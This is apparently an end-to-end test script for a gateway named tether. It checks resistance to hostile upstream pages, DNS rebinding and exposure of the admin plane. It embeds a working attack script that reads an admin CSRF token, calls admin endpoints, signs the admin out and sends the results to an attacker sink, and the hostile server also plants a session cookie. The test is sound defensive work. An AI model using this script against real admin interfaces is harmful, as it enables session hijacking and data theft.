#!/usr/bin/env node
// End-to-end test of the gateway's browser-facing edge (issue 20, defects 6 and 7): real
// tether binary, a hostile upstream, Debian's chromium driven by playwright-core.
//
//   node e2e/edge-e2e.mjs [--build-dir build] [--chromium /usr/bin/chromium]
//        [--timeout-ms 120000] [--verbose]
//
// Starts a Node upstream and `tether serve` with the connection api/evil (bearer) pointing at
// it, then:
//  (a) an admin signs in to the portal's API in the browser; in the same browser the admin
//      opens /api/evil/page, HTML whose script reads /api/v1/admin/session (the CSRF token),
//      then signs the admin out and asks for a refresh with it, and reports everything it
//      got to the upstream's /sink; the upstream also tries to plant a session cookie.
//      Expected: the answer is sandboxed (the script runs with no origin, or not at all),
//      the sink learns nothing of the admin API, the admin is still signed in with the same
//      CSRF token, and the planted cookie is not in the browser;
//  (b) a page on a rebound host name (rebound.test resolves to 127.0.0.1 through
//      --host-resolver-rules) fetches /api/evil/... and /mcp/... same-origin: 403 or 421,
//      and the upstream sees none of these requests;
//  (c) a second tether with admin.listen: the admin API and the portal answer on the admin
//      listener only (404 on the main one), and the rebound host is refused there too.
// Prints PASS or FAIL (exit 0 / 1; usage errors exit 2).

import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { chromium } from 'playwright-core';

import { CHROMIUM_ARGS } from './chromium.mjs';
import { Failure, check, parseCommandLine, processGroup, runLog, waitFor } from './harness.mjs';

const { opts, timeoutMs, buildDir } = parseCommandLine(
  'edge-e2e',
  'usage: node e2e/edge-e2e.mjs [--build-dir DIR] [--chromium PATH] [--timeout-ms N] [--verbose]',
  { timeoutMs: 120000 },
);
const { log } = runLog('edge-e2e');

const failures = [];
// Collects a failed expectation and goes on, so one run reports every hole at once.
function expect(condition, message) {
  if (!condition) {
    failures.push(message);
    log(`FAILED: ${message}`);
  }
  return condition;
}

// ---------------------------------------------------------------------------------------
// Processes

const { startProcess, stopAll } = processGroup({ verbose: opts.verbose });
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'tether-edge-e2e-'));

// ---------------------------------------------------------------------------------------
// The hostile upstream: an HTML page with script, and a sink the script reports to.

const adminKey = `edge-admin-${crypto.randomBytes(12).toString('hex')}`;
const upstreamToken = `edge-upstream-${crypto.randomBytes(12).toString('hex')}`;
const sink = []; // what the upstream's script managed to send home
const upstreamSeen = []; // request targets the upstream received through tether
let upstreamUrl;

// The script an upstream answer carries. It acts as the signed-in admin would: reads the
// session (and with it the CSRF token), signs the admin out, asks for a refresh, tries the
// portal page, and sends whatever it got to the sink (cross-origin, no-cors: always allowed
// for a script that runs at all).
function evilScript(sinkUrl) {
  return `
(async () => {
  const report = { origin: String(self.origin), cookie: '', steps: [] };
  const send = (stage) => {
    try { navigator.sendBeacon(${JSON.stringify(sinkUrl)} + '?stage=' + stage, JSON.stringify(report)); } catch (e) {}
    fetch(${JSON.stringify(sinkUrl)} + '?stage=' + stage, { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) }).catch(() => {});
  };
  send('ran');
  try { report.cookie = document.cookie; } catch (e) { report.cookie = 'error: ' + e.name; }
  const step = async (name, url, init) => {
    try {
      const r = await fetch(url, { credentials: 'include', ...init });
      report.steps.push({ name, status: r.status, body: (await r.text()).slice(0, 500) });
    } catch (e) {
      report.steps.push({ name, error: String(e) });
    }
  };
  await step('session', '/api/v1/admin/session');
  let csrf = '';
  try { csrf = JSON.parse(report.steps[0].body).csrf_token || ''; } catch (e) {}
  await step('connections', '/api/v1/admin/connections');
  await step('portal', '/portal/');
  await step('refresh', '/api/v1/admin/connections/mcp/notes/oauth/refresh', { method: 'POST', headers: { 'X-CSRF-Token': csrf } });
  await step('sign-out', '/api/v1/admin/session', { method: 'DELETE', headers: { 'X-CSRF-Token': csrf } });
  send('done');
})();`;
}

async function startUpstream() {
  const server = http.createServer((req, res) => {
    const url = new URL(req.url, 'http://x');
    if (url.pathname === '/sink') {
      let body = '';
      req.on('data', (d) => (body += d));
      req.on('end', () => {
        sink.push({ stage: url.searchParams.get('stage'), body });
        res.writeHead(204, { 'Access-Control-Allow-Origin': '*' }).end();
      });
      return;
    }
    upstreamSeen.push(req.url);
    if (req.headers.authorization !== `Bearer ${upstreamToken}`) {
      res.writeHead(500).end('the gateway did not inject the connection credential');
      return;
    }
    if (url.pathname.endsWith('/page')) {
      res.writeHead(200, {
        'Content-Type': 'text/html; charset=utf-8',
        'Set-Cookie': 'tether_session=planted-by-upstream; Path=/; HttpOnly',
      });
      res.end(`<!doctype html><title>upstream</title><p>upstream page</p><script>${evilScript(`${upstreamUrl}/sink`)}</script>`);
      return;
    }
    res.writeHead(200, { 'Content-Type': 'application/json' });
    res.end(JSON.stringify({ upstream: 'data', path: req.url }));
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  upstreamUrl = `http://127.0.0.1:${server.address().port}`;
  return server;
}

// ---------------------------------------------------------------------------------------
// Tether

async function startTether(name, { adminListen = false } = {}) {
  const tetherBin = path.join(buildDir, 'tether');
  check(fs.existsSync(tetherBin), `${tetherBin} is missing: build it first`);
  const dir = fs.mkdtempSync(path.join(tmp, `${name}-`));
  const config =
    'listen: 127.0.0.1:0\n' +
    'log: { level: info, format: json }\n' +
    `storage: { driver: sqlite, path: "${path.join(dir, 'tether.db')}" }\n` +
    'encryption: { key: "${TETHER_ENCRYPTION_KEY}" }\n' +
    'admin:\n  keys: [ "${TETHER_ADMIN_KEY}" ]\n' +
    (adminListen ? '  listen: 127.0.0.1:0\n' : '') +
    'connections:\n' +
    `  - kind: api\n    name: evil\n    url: ${upstreamUrl}/app\n` +
    '    auth: { mode: bearer, token: "${UPSTREAM_TOKEN}" }\n' +
    `  - kind: mcp\n    name: wiki\n    url: ${upstreamUrl}/mcp\n` +
    '    auth: { mode: bearer, token: "${UPSTREAM_TOKEN}" }\n' +
    '  - kind: mcp\n    name: notes\n    url: https://notes.example.test/mcp\n' +
    '    auth: { mode: oauth, authorization_url: "https://idp.example.test/authorize", ' +
    'token_url: "https://idp.example.test/token", client_id: notes }\n';
  const configPath = path.join(dir, 'tether.yaml');
  fs.writeFileSync(configPath, config);
  const proc = startProcess(name, tetherBin, ['serve', '--config', configPath], {
    TETHER_ADMIN_KEY: adminKey,
    TETHER_ENCRYPTION_KEY: crypto.randomBytes(32).toString('hex'),
    UPSTREAM_TOKEN: upstreamToken,
  });
  const listening = await waitFor(
    `${name} to log "listening"`,
    () => /"msg":"listening".*?"address":"(127\.0\.0\.1:\d+)"/.exec(proc.err),
    30_000,
    proc,
  );
  const base = `http://${listening[1]}`;
  await waitFor(`${name} to be ready`, async () => (await fetch(`${base}/readyz`).catch(() => null))?.status === 200, 30_000, proc);
  // The admin listener is logged after the data plane's: read it once the process is ready
  // (the admin listener opens before start-up finishes).
  const adminLine = () => /"msg":"admin listening".*?"address":"(127\.0\.0\.1:\d+)"/.exec(proc.err);
  const admin = adminListen
    ? await waitFor(`${name} to log "admin listening"`, adminLine, 10_000, proc).catch(() => null)
    : adminLine();
  const adminBase = admin ? `http://${admin[1]}` : base;
  return { proc, base, adminBase };
}

// ---------------------------------------------------------------------------------------
// (a) upstream script while an admin is signed in

async function upstreamScriptCannotActAsTheAdmin(browser, tether) {
  const context = await browser.newContext();
  try {
    const portal = await context.newPage();
    await portal.goto(`${tether.adminBase}/portal/`);
    const signIn = await portal.evaluate(async (key) => {
      const r = await fetch('/api/v1/admin/session', {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ key }),
      });
      return { status: r.status, body: await r.json() };
    }, adminKey);
    check(signIn.status === 200 && signIn.body.csrf_token, `signing in answered ${signIn.status}`);
    const csrf = signIn.body.csrf_token;
    log('admin signed in to the portal');

    const events = async () => {
      const r = await fetch(`${tether.adminBase}/api/v1/admin/connections/mcp/notes/auth-events?limit=30`, {
        headers: { Authorization: `Bearer ${adminKey}` },
      });
      return `${r.status} ${await r.text()}`;
    };
    const eventsBefore = await events();

    const page = await context.newPage();
    const pageErrors = [];
    page.on('console', (m) => opts.verbose && log(`upstream page console: ${m.text()}`));
    page.on('pageerror', (e) => pageErrors.push(e.message));
    const response = await page.goto(`${tether.base}/api/evil/page`);
    check(response, 'no response for /api/evil/page');
    expect(response.status() === 200, `/api/evil/page answered ${response.status()}, expected the upstream's 200`);
    const headers = response.headers();
    expect(/(^|[,;]\s*)sandbox\b/.test(headers['content-security-policy'] ?? ''), `the relayed page has no CSP sandbox: ${headers['content-security-policy']}`);
    expect(headers['x-content-type-options'] === 'nosniff', `the relayed page has X-Content-Type-Options ${headers['x-content-type-options']}`);
    // A script that runs reports "done" within moments; a sandboxed one may not run at all.
    // Bounded wait: until "done" arrives or 4 s have passed since the page loaded.
    const deadline = Date.now() + 4000;
    while (!sink.some((s) => s.stage === 'done') && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
    const reports = sink.map((s) => s.body).join('\n');
    if (opts.verbose) log(`sink: ${reports || '(nothing)'}`);
    expect(!reports.includes(csrf), 'the upstream script read the admin CSRF token');
    expect(!/"status":2\d\d/.test(reports), `the upstream script got a successful answer from tether: ${reports.slice(0, 600)}`);
    expect(!reports.includes('key_id'), 'the upstream script read the admin session');
    expect(!reports.includes('<div id=\\"root\\">'), 'the upstream script read the portal page');
    const planted = (await context.cookies()).filter((c) => c.value === 'planted-by-upstream');
    expect(planted.length === 0, 'the upstream planted a cookie on the portal origin');
    // The admin is still signed in, with the same session.
    const after = await portal.evaluate(async () => {
      const r = await fetch('/api/v1/admin/session');
      return { status: r.status, body: await r.text() };
    });
    expect(after.status === 200 && after.body.includes(csrf), `the admin session changed after the upstream page ran: ${after.status} ${after.body}`);
    const eventsAfter = await events();
    expect(eventsAfter === eventsBefore, `the upstream page caused auth events on mcp/notes: ${eventsAfter.slice(0, 300)}`);
    log(`(a) upstream page: ${sink.length} sink report(s), admin session ${after.status === 200 ? 'intact' : 'LOST'}`);
  } finally {
    await context.close();
  }
}

// ---------------------------------------------------------------------------------------
// (b) a page on a rebound host name

async function reboundPageIsRefused(browser, tether) {
  const port = new URL(tether.base).port;
  const origin = `http://rebound.test:${port}`;
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    page.on('console', (m) => opts.verbose && log(`rebound page console: ${m.text()}`));
    // After the rebinding, the attacker's page has the origin rebound.test:<port> and the
    // name resolves to 127.0.0.1 (--host-resolver-rules). The page here is tether's own
    // /healthz (probes answer whatever the Host), so that chromium sees a page in the
    // loopback address space, as after a real rebinding that its Private Network Access
    // checks would not stop (other browsers have none): only tether's host check remains.
    const landing = await page.goto(`${origin}/healthz`);
    check(landing?.status() === 200, `the landing page on the rebound host answered ${landing?.status()}`);
    const seenBefore = upstreamSeen.length;
    const results = await page.evaluate(async () => {
      const out = {};
      for (const url of ['/api/evil/data', '/mcp/wiki', '/api/v1/admin/session', '/portal/']) {
        try {
          const r = await fetch(url);
          out[url] = { status: r.status, body: (await r.text()).slice(0, 300) };
        } catch (e) {
          out[url] = { error: String(e) };
        }
      }
      return out;
    });
    for (const url of ['/api/evil/data', '/mcp/wiki']) {
      const r = results[url];
      expect(r.status === 403 || r.status === 421, `a rebound page's GET ${url} answered ${r.status ?? r.error}: ${r.body ?? ''}`);
      expect(!(r.body ?? '').includes('"upstream"'), `a rebound page read upstream data from ${url}`);
    }
    for (const url of ['/api/v1/admin/session', '/portal/']) {
      const r = results[url];
      expect(r.status === 403 || r.status === 421 || r.status === 404, `a rebound page's GET ${url} answered ${r.status ?? r.error}`);
    }
    expect(upstreamSeen.length === seenBefore, `the upstream received requests from the rebound page: ${upstreamSeen.slice(seenBefore)}`);
    // A top-level navigation on the rebound name is refused as well.
    const nav = await page.goto(`${origin}/api/evil/data`);
    expect(nav && (nav.status() === 403 || nav.status() === 421), `navigating to the rebound host answered ${nav?.status()}`);
    log(`(b) rebound page: ${Object.entries(results).map(([u, r]) => `${u} ${r.status ?? r.error}`).join(', ')}`);
  } finally {
    await context.close();
  }
}

// ---------------------------------------------------------------------------------------
// (c) admin.listen: the admin plane on its own listener

async function adminListenerIsSeparate(browser) {
  const tether = await startTether('tether-admin-listen', { adminListen: true });
  expect(tether.adminBase !== tether.base, 'no "admin listening" line with admin.listen set');
  if (tether.adminBase === tether.base) return;
  for (const p of ['/api/v1/admin/session', '/portal/']) {
    const main = await fetch(`${tether.base}${p}`);
    expect(main.status === 404, `${p} on the main listener answered ${main.status}, expected 404`);
  }
  const signIn = await fetch(`${tether.adminBase}/api/v1/admin/session`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ key: adminKey }),
  });
  expect(signIn.status === 200, `signing in on the admin listener answered ${signIn.status}`);
  const portal = await fetch(`${tether.adminBase}/portal/`);
  expect(portal.status === 200, `/portal/ on the admin listener answered ${portal.status}`);
  const api = await fetch(`${tether.base}/api/evil/data`);
  expect(api.status === 200, `the gateway route on the main listener answered ${api.status}`);
  // The rebound name is refused on the admin listener as well.
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    const r = await page.goto(`http://rebound.test:${new URL(tether.adminBase).port}/portal/`);
    expect(r && (r.status() === 403 || r.status() === 421), `the portal on a rebound host answered ${r?.status()}`);
  } finally {
    await context.close();
  }
  log('(c) admin.listen: admin API and portal only on the admin listener');
}

// ---------------------------------------------------------------------------------------

async function main() {
  const timer = setTimeout(() => {
    log(`FAIL: the whole run exceeded ${timeoutMs} ms`);
    stopAll().finally(() => process.exit(1));
  }, timeoutMs);
  let browser;
  let upstream;
  try {
    upstream = await startUpstream();
    const tether = await startTether('tether');
    log(`tether at ${tether.base}, upstream at ${upstreamUrl}`);
    browser = await chromium.launch({
      executablePath: opts.chromium,
      args: [...CHROMIUM_ARGS, '--host-resolver-rules=MAP rebound.test 127.0.0.1'],
    });
    await upstreamScriptCannotActAsTheAdmin(browser, tether);
    await reboundPageIsRefused(browser, tether);
    await adminListenerIsSeparate(browser);
  } catch (e) {
    failures.push(e instanceof Failure ? e.message : String(e.stack ?? e));
  } finally {
    clearTimeout(timer);
    await browser?.close().catch(() => {});
    upstream?.closeAllConnections();
    upstream?.close();
    await stopAll();
    fs.rmSync(tmp, { recursive: true, force: true });
  }
  if (failures.length) {
    console.log(`FAIL (${failures.length}):\n - ${failures.join('\n - ')}`);
    process.exit(1);
  }
  console.log('PASS');
}

main();
